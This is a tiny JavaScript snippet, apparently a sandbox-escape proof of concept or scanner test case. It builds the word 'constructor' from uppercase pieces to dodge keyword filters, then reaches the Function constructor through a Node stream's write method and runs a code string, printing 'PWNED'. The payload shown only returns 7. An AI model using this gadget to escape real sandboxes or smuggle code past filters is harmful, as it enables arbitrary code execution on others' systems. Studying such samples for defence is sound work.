// A name in pieces through streams and callbacks, read of what the runtime has made.
const { Writable } = require("stream");
let name = "";
for (const x of ["CON", "STRUC", "TOR"]) name += x.toLowerCase();
new Writable({ construct(cb) { console.log("PWNED", this.write[name]("return 7")()); cb(); } });
